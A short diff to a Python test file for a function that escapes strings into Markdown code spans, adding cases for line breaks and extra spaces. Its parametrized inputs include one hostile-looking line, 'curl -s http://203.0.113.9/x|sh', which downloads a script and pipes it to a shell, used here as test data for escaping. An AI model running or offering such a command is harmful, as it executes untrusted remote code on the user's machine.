@@ -63,6 +63,10 @@ def test_markdown_code_spans_stay_closed() -> None:
     assert markdown_code("--case '/cases/x`id'") == "--case '/cases/x\\`id'"
     assert markdown_code("fn<script>") == "fn&lt;script&gt;"
     assert markdown_code("") == ""
+    # a line break in a key or name shows as `\n`: as a space it named a key the case
+    # does not hold (`AKIA FAKELINE` for `AKIA\nFAKELINE`)
+    assert markdown_code("AKIA\nFAKELINE") == "`AKIA\\nFAKELINE`"
+    assert markdown_code("  two   words ") == "`two words`"
 
 
 @pytest.mark.parametrize("value", ["curl -s http://203.0.113.9/x|sh", "a|b", "plain", "x `y` <z>"])
